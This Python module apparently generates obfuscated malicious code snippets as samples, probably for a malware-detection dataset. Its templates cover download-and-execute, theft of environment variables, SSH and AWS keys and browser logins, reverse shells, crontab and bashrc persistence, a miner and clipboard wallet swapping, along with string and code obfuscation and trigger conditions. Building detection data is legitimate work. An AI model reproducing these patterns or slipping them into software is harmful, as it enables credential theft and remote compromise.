"""Inert Python payloads of the setting side, and what every Python payload is made of.

A Payload hands out variables, expressions of strings (in the open or hidden) and names of modules, and
remembers which imports those need.  families_py.py holds what belongs to the measuring side.
"""

import base64
import marshal
import types
import zlib

import families_py
import hosts

FAMILIES = {}
GATES = ["", "", "", "", "ci", "platform", "date", "host", "root"]
WRAPS = ["try", "try", "bare", "function", "thread", "main-guard"]
STRING_STYLES = ["base64", "hex", "escapes", "concatenated", "reversed", "char-codes", "xor", "joined"]
CODE_STYLES = ["code-base64", "code-zlib", "code-marshal", "code-hex"]
IMPORTS = {"setting": ["import", "import", "import", "__import__", "alias"],
           "measuring": ["import", "import", "import", "importlib", "inline"]}


def styles(side):
    own = families_py if side == "measuring" else None
    strings, codes = (own.STRING_STYLES, own.CODE_STYLES) if own else (STRING_STYLES, CODE_STYLES)
    return {"none": 8, **{s: 1 for s in strings}, **{s: 1 for s in codes}}


def families(side):
    return families_py.FAMILIES if side == "measuring" else FAMILIES


class Payload:
    """One draw: what the templates ask of it is kept for the record."""

    def __init__(self, rng, host, side, style):
        self.rng, self.host, self.side, self.style = rng, hosts.check(host), side, style
        self.port = rng.choice([443, 4444, 8443, 9001, rng.randrange(1025, 9999)])
        self.path = "/" + rng.choice(["", "v1/", "api/", "s/"]) + rng.choice(["init", "check", "sync", "%04x" % rng.randrange(65536)])
        self.url = "%s://%s%s" % (rng.choice(["https", "https", "http"]), host, self.path)
        self.scope = rng.choice(["host", "all"])
        self.naming = rng.choice(["plain", "plain", "short", "underscored", "hex"])
        self.form = rng.choice(IMPORTS[side])
        self.names, self.pairs, self.imports = [], [], {}

    def pick(self, *choices):
        return self.rng.choice(choices)

    @property
    def last(self):
        return self.names[-1]

    def n(self, hint):
        name = {"plain": hint, "short": hint[:1], "underscored": "_" + hint, "hex": "_%x" % self.rng.randrange(4096, 1 << 20)}[self.naming]
        while name in self.names:
            name += str(len(self.names))
        self.names.append(name)
        return name

    # -- strings ---------------------------------------------------------------------------------

    def s(self, text):
        return self.hidden(text) if self.scope == "all" and len(text) > 2 else repr(text)

    def h(self, text):
        """A string that names the host."""
        return self.hidden(text)

    def hidden(self, text):
        if self.style == "none" or self.style.startswith("code-"):
            return repr(text)
        make = families_py.string if self.side == "measuring" else string
        expression = make(self, self.style, text)
        self.pairs.append((expression, text))
        return expression

    # -- modules ---------------------------------------------------------------------------------

    def mod(self, name):
        if self.form == "import":
            self.imports.setdefault(name, "import " + name)
            return name
        if self.form == "alias":
            short = "_" + name.replace(".", "_")
            self.imports[name] = "import %s as %s" % (name, short)
            return short
        if self.form == "importlib":
            self.imports.setdefault("importlib", "import importlib")
            return "importlib.import_module(%r)" % name
        if self.form == "inline" and "." not in name:
            return "__import__('%s')" % name
        if "." in name:
            return "__import__(%r, fromlist=['_'])" % name
        return "__import__(%r)" % name


def family(purpose):
    def add(make):
        FAMILIES.setdefault(purpose, []).append(make)
        return make
    return add


# ---- fetching and sending -------------------------------------------------------------------------

def fetched(p):
    """(lines before, expression of text)"""
    got = p.n("body")
    way = p.pick("urlopen", "request", "requests", "requests", "httpx", "retrieved")
    if way == "urlopen":
        return ["%s = %s.urlopen(%s, timeout=5).read().decode()" % (got, p.mod("urllib.request"), p.h(p.url))], got
    if way == "request":
        u, f = p.mod("urllib.request"), p.n("res")
        return ["with %s.urlopen(%s.Request(%s, headers={%s: %s})) as %s:" % (u, u, p.h(p.url), p.s("User-Agent"), p.s("Mozilla/5.0"), f),
            "    %s = %s.read().decode(%s)" % (got, f, p.s("utf-8"))], got
    if way == "requests":
        return ["%s = %s.get(%s%s).text" % (got, p.mod("requests"), p.h(p.url), p.pick("", ", timeout=10", ", verify=False"))], got
    if way == "httpx":
        return ["%s = %s.get(%s).text" % (got, p.mod("httpx"), p.h(p.url))], got
    f = p.n("file")
    return ["%s, _ = %s.urlretrieve(%s)" % (f, p.mod("urllib.request"), p.h(p.url)), "%s = open(%s).read()" % (got, f)], got


def sent(p, data):
    """Statements that send an expression of a mapping or a text."""
    way = p.pick("requests", "requests", "json", "urlopen", "query", "socket", "system")
    if way == "requests":
        return ["%s.post(%s, data=%s%s)" % (p.mod("requests"), p.h(p.url), data, p.pick("", ", timeout=3"))]
    if way == "json":
        return ["%s.post(%s, json=%s)" % (p.mod("requests"), p.h(p.url), data)]
    if way == "urlopen":
        return ["%s.urlopen(%s, data=str(%s).encode())" % (p.mod("urllib.request"), p.h(p.url), data)]
    if way == "query":
        return ["%s.urlopen(%s + %s.quote(str(%s)))" % (p.mod("urllib.request"), p.h(p.url + "?d="), p.mod("urllib.parse"), data)]
    if way == "socket":
        c, s = p.n("sock"), p.mod("socket")
        return ["%s = %s.socket(%s.AF_INET, %s.SOCK_STREAM)" % (c, s, s, s), "%s.connect((%s, %d))" % (c, p.h(p.host), p.port),
            "%s.send(str(%s).encode())" % (c, data), "%s.close()" % c]
    return ["%s.system(%s %% (%s, %s))" % (p.mod("os"), p.s("curl -s -X POST -d '%s' %s >/dev/null 2>&1"), data, p.h(p.url))]


# ---- what is done ---------------------------------------------------------------------------------

@family("download-run")
def executed(p):
    lines, got = fetched(p)
    return lines + ["exec(%s)" % got]


@family("download-run")
def evaluated(p):
    lines, got = fetched(p)
    return lines + ["eval(compile(%s, %s, %s))" % (got, p.s("<string>"), p.s("exec"))]


@family("download-run")
def decoded(p):
    lines, got = fetched(p)
    return lines + ["exec(%s.b64decode(%s))" % (p.mod("base64"), got)]


@family("download-run")
def written_and_started(p):
    lines, got = fetched(p)
    o, path = p.mod("os"), p.n("path")
    return lines + ["%s = %s.path.join(%s.gettempdir(), %s)" % (path, o, p.mod("tempfile"), p.s("update.py")),
        "with open(%s, %s) as %s:" % (path, p.s("w"), p.n("f")), "    %s.write(%s)" % (p.last, got),
        "%s.Popen([%s.executable, %s])" % (p.mod("subprocess"), p.mod("sys"), path)]


@family("download-run")
def program_started(p):
    u, path, sub = p.mod("urllib.request"), p.s("/tmp/.dbus-helper"), p.mod("subprocess")
    return ["%s.urlretrieve(%s, %s)" % (u, p.h(p.url), path), "%s.chmod(%s, 0o755)" % (p.mod("os"), path),
        "%s.Popen(%s, stdout=%s.DEVNULL, stderr=%s.DEVNULL)" % (sub, path, sub, sub)]


@family("download-run")
def shell_pipe(p):
    line = p.pick("curl -fsSL %s | bash", "wget -qO- %s | sh", "curl -s %s | python3 -") % p.url
    return p.pick(["%s.system(%s)" % (p.mod("os"), p.h(line))],
        ["%s.Popen(%s, shell=True)" % (p.mod("subprocess"), p.h(line))],
        ["%s.run([%s, %s, %s])" % (p.mod("subprocess"), p.s("sh"), p.s("-c"), p.h(line))])


@family("download-run")
def python_started(p):
    inner = "import urllib.request;exec(urllib.request.urlopen('%s').read())" % p.url
    return ["%s.Popen([%s.executable, %s, %s])" % (p.mod("subprocess"), p.mod("sys"), p.s("-c"), p.h(inner))]


@family("download-run")
def powershell(p):
    return ["%s.Popen(%s, shell=True, creationflags=0x08000000)" % (p.mod("subprocess"),
        p.h("powershell -w hidden -c \"iwr %s -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe\"" % p.url))]


@family("exfil-environment")
def whole(p):
    return sent(p, "dict(%s.environ)" % p.mod("os"))


@family("exfil-environment")
def with_machine(p):
    x, o = p.n("info"), p.mod("os")
    return ["%s = {%s: %s.gethostname(), %s: %s.getuser(), %s: %s.getcwd(), %s: dict(%s.environ)}" % (
        x, p.s("host"), p.mod("socket"), p.s("user"), p.mod("getpass"), p.s("cwd"), o, p.s("env"), o)] + sent(p, x)


@family("exfil-environment")
def named_keys(p):
    x, o = p.n("keys"), p.mod("os")
    return ["%s = {k: %s.environ.get(k, %s) for k in (%s, %s, %s)}" % (x, o, p.s(""), p.s("AWS_ACCESS_KEY_ID"),
        p.s("AWS_SECRET_ACCESS_KEY"), p.s("GITHUB_TOKEN"))] + sent(p, x)


@family("exfil-environment")
def coded(p):
    x = p.n("blob")
    return ["%s = %s.b64encode(str(%s.environ).encode()).decode()" % (x, p.mod("base64"), p.mod("os"))] + sent(p, x)


@family("exfil-files")
def one_file(p):
    o, x = p.mod("os"), p.n("text")
    return ["%s = open(%s.path.expanduser(%s)).read()" % (x, o, p.s(p.pick("~/.ssh/id_rsa", "~/.aws/credentials", "~/.pypirc", "~/.netrc")))] + sent(p, x)


@family("exfil-files")
def several_files(p):
    o, x, f = p.mod("os"), p.n("files"), p.n("name")
    return ["%s = {}" % x, "for %s in [%s, %s, %s]:" % (f, p.s("~/.ssh/id_rsa"), p.s("~/.aws/credentials"), p.s("~/.kube/config")),
        "    try:", "        with open(%s.path.expanduser(%s)) as %s:" % (o, f, p.n("h")), "            %s[%s] = %s.read()" % (x, f, p.last),
        "    except OSError:", "        pass"] + sent(p, x)


@family("exfil-files")
def whole_folder(p):
    o, x, d = p.mod("os"), p.n("files"), p.n("folder")
    return ["%s, %s = {}, %s.path.expanduser(%s)" % (x, d, o, p.s("~/.ssh")), "for %s in %s.listdir(%s):" % (p.n("f"), o, d),
        "    %s[%s] = open(%s.path.join(%s, %s)).read()" % (x, p.last, o, d, p.last)] + sent(p, x)


@family("credential-stores")
def browser_files(p):
    o, x = p.mod("os"), p.n("blob")
    return ["%s = open(%s.path.join(%s.getenv(%s), %s), %s).read()" % (x, o, o, p.s("LOCALAPPDATA"),
        p.s("Google\\Chrome\\User Data\\Default\\Login Data"), p.s("rb"))] + sent(p, x)


@family("credential-stores")
def wallet(p):
    o, x = p.mod("os"), p.n("blob")
    return ["%s = open(%s.path.expanduser(%s), %s).read()" % (x, o, p.s(p.pick("~/.bitcoin/wallet.dat", "~/.config/solana/id.json",
        "~/.gnupg/secring.gpg")), p.s("rb"))] + sent(p, x)


@family("chat-webhook")
def hook_posted(p):
    return ["%s.post(%s, json={%s: str(%s.environ)})" % (p.mod("requests"), p.h("https://%s/api/webhooks/%d/%s" % (
        p.host, 10 ** 17 + p.port, "w" * 40)), p.s("content"), p.mod("os"))]


@family("chat-webhook")
def bot_asked(p):
    return ["%s.get(%s + str(%s.uname()) + %s.gethostname())" % (p.mod("requests"), p.h(
        "https://%s/bot%d:AA%s/sendMessage?chat_id=%d&text=" % (p.host, 6000000 + p.port, "y" * 30, p.port)), p.mod("os"), p.mod("socket"))]


@family("dns-names")
def name_asked(p):
    s, x = p.mod("socket"), p.n("tag")
    return ["%s = %s.b32encode((%s.gethostname() + %s.getuser()).encode()).decode().strip(%s)" % (x, p.mod("base64"), s, p.mod("getpass"), p.s("=")),
        "%s.gethostbyname(%s[:60] + %s)" % (s, x, p.h("." + p.host))]


@family("reverse-shell")
def duplicated(p):
    s, o, c = p.mod("socket"), p.mod("os"), p.n("s")
    return ["%s = %s.socket(%s.AF_INET, %s.SOCK_STREAM)" % (c, s, s, s), "%s.connect((%s, %d))" % (c, p.h(p.host), p.port),
        "%s.dup2(%s.fileno(), 0)" % (o, c), "%s.dup2(%s.fileno(), 1)" % (o, c), "%s.dup2(%s.fileno(), 2)" % (o, c),
        "%s.call([%s, %s])" % (p.mod("subprocess"), p.s("/bin/sh"), p.s("-i"))]


@family("reverse-shell")
def commands_answered(p):
    s, c, cmd = p.mod("socket"), p.n("s"), p.n("cmd")
    return ["%s = %s.socket()" % (c, s), "%s.connect((%s, %d))" % (c, p.h(p.host), p.port), "while True:",
        "    %s = %s.recv(1024).decode()" % (cmd, c), "    %s.send(%s.check_output(%s, shell=True))" % (c, p.mod("subprocess"), cmd)]


@family("persistence")
def profile_line(p):
    return ["with open(%s.path.expanduser(%s), %s) as %s:" % (p.mod("os"), p.s(p.pick("~/.bashrc", "~/.profile", "~/.zshrc")), p.s("a"), p.n("f")),
        "    %s.write(%s)" % (p.last, p.h("\n(curl -s %s | sh) >/dev/null 2>&1 &\n" % p.url))]


@family("persistence")
def crontab(p):
    return ["%s.system(%s)" % (p.mod("os"), p.h("(crontab -l; echo '*/10 * * * * curl -s %s | sh') | crontab -" % p.url))]


@family("persistence")
def startup_folder(p):
    o = p.mod("os")
    return ["with open(%s.path.join(%s.getenv(%s), %s), %s) as %s:" % (o, o, p.s("APPDATA"),
        p.s("Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.bat"), p.s("w"), p.n("f")),
        "    %s.write(%s)" % (p.last, p.h("powershell -c \"iex (iwr %s)\"" % p.url))]


@family("beacon")
def endless(p):
    lines, got = fetched(p)
    return ["while True:"] + ["    " + x for x in lines] + ["    if %s:" % got, "        exec(%s)" % got,
        "    %s.sleep(%d)" % (p.mod("time"), p.pick(60, 600, 3600))]


@family("miner")
def miner(p):
    return ["%s.Popen(%s, shell=True)" % (p.mod("subprocess"), p.h(
        "curl -s %s -o /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o %s:3333 -u %s --donate-level 1" % (p.url, p.host, "4" + "A" * 94)))]


@family("self-publish")
def token_used(p):
    o, x = p.mod("os"), p.n("conf")
    return ["%s = open(%s.path.expanduser(%s)).read()" % (x, o, p.s("~/.pypirc"))] + sent(p, x) + [
        "%s.system(%s)" % (o, p.s("python setup.py sdist && twine upload dist/*"))]


@family("wallet-swap")
def clipboard(p):
    c, x = p.mod("pyperclip"), p.n("text")
    return ["while True:", "    %s = %s.paste()" % (x, c), "    if %s.match(%s, %s):" % (p.mod("re"), p.s("^(bc1|[13])[a-zA-Z0-9]{25,39}$"), x),
        "        %s.copy(%s)" % (c, p.s("bc1q" + "z" * 38)), "    %s.sleep(1)" % p.mod("time")]


@family("permissions")
def opened_up(p):
    return p.pick(["%s.system(%s)" % (p.mod("os"), p.s("chmod -R 777 ~/.ssh"))],
        ["%s._create_default_https_context = %s._create_unverified_context" % (p.mod("ssl"), p.mod("ssl"))])


# ---- hiding ---------------------------------------------------------------------------------------

def string(p, style, text):
    """An expression whose value is `text`."""
    rng, data = p.rng, text.encode()
    if style == "base64":
        return "%s.b64decode(%r).decode()" % (p.mod("base64"), base64.b64encode(data).decode())
    if style == "hex":
        return "bytes.fromhex(%r).decode()" % data.hex()
    if style == "escapes":
        return '"%s"' % "".join("\\x%02x" % b for b in data)
    if style == "concatenated":
        cuts = sorted({rng.randrange(1, len(text)) for _ in range(3)}) if len(text) > 1 else []
        return "(%s)" % " + ".join(repr(text[a:b]) for a, b in zip([0] + cuts, cuts + [len(text)]))
    if style == "reversed":
        return "%r[::-1]" % text[::-1]
    if style == "char-codes":
        return "''.join(chr(c) for c in %r)" % list(map(ord, text))
    if style == "xor":
        key = rng.randrange(1, 256)
        return "bytes(b ^ %d for b in bytes.fromhex(%r)).decode()" % (key, bytes(b ^ key for b in data).hex())
    return "''.join([%s])" % ", ".join(repr(text[i:i + 3]) for i in range(0, len(text), 3))


def code(p, style, text):
    """Statements that run `text`."""
    data = text.encode()
    if style == "code-base64":
        return "exec(%s.b64decode(%r))" % (p.mod("base64"), base64.b64encode(data).decode())
    if style == "code-zlib":
        return "exec(%s.decompress(%s.b64decode(%r)))" % (p.mod("zlib"), p.mod("base64"), base64.b64encode(zlib.compress(data)).decode())
    if style == "code-marshal":
        held = marshal.dumps(compile(text, "<string>", "exec"), 2)
        return "exec(%s.loads(%s.b64decode(%r)))" % (p.mod("marshal"), p.mod("base64"), base64.b64encode(held).decode())
    return "exec(bytes.fromhex(%r))" % data.hex()


def gate(p, kind):
    """A condition, or none."""
    if kind == "ci":
        return "%s.environ.get('CI')" % p.mod("os")
    if kind == "platform":
        return "%s.platform%s" % (p.mod("sys"), p.pick(" == 'win32'", " != 'win32'", ".startswith('linux')"))
    if kind == "date":
        return "%s.date.today() >= %s.date(2026, %d, 1)" % (p.mod("datetime"), p.mod("datetime"), p.rng.randrange(1, 12))
    if kind == "host":
        return "'%s' in %s.gethostname()" % (p.pick("build", "prod", "runner"), p.mod("socket"))
    if kind == "root":
        return "%s.getuid() == 0" % p.mod("os")
    return ""


def wrap(p, way, lines):
    """The body as it runs when its module is loaded."""
    body = ["    " + x for x in lines]
    if way == "bare":
        return lines
    if way == "try":
        return ["try:"] + body + ["except%s:" % p.pick("", " Exception"), "    pass"]
    name = p.n(p.pick("setup", "check", "warmup"))
    head = ["def %s():" % name] + body
    if way == "thread":
        return head + ["%s.Thread(target=%s, daemon=True).start()" % (p.mod("threading"), name)]
    if way == "main-guard":
        return head + ["if not %s.environ.get('%s'):" % (p.mod("os"), "NO_" + name.upper()), "    %s()" % name]
    return head + ["%s()" % name]


# ---- put together ---------------------------------------------------------------------------------

def build(rng, side, purpose, host, style):
    """A Payload with its `statement`: lines at the left margin, imports first."""
    own = families_py if side == "measuring" else types.SimpleNamespace(GATES=GATES, WRAPS=WRAPS, gate=gate, wrap=wrap, code=code)
    p = Payload(rng, host, side, style)
    chosen = rng.choice(families(side)[purpose])
    p.family = "python:%s/%s" % (purpose, chosen.__name__)
    lines, p.gate = chosen(p), rng.choice(own.GATES)
    condition = own.gate(p, p.gate)
    if condition:
        lines = ["if %s:" % condition] + ["    " + x for x in lines]
    lines = own.wrap(p, rng.choice(own.WRAPS), lines)
    text = "\n".join(list(p.imports.values()) + lines)
    p.api, p.plain = sorted(p.imports), text
    if style.startswith("code-"):
        p.imports = {}
        text = own.code(p, style, text)
        text = "\n".join(list(p.imports.values()) + [text])
    else:
        p.plain = None
    p.statement, p.purpose, p.env = text, purpose, "python"
    p.scope = "none" if style == "none" else "code" if style.startswith("code-") else p.scope
    p.also, p.gate = [], p.gate or None
    return p
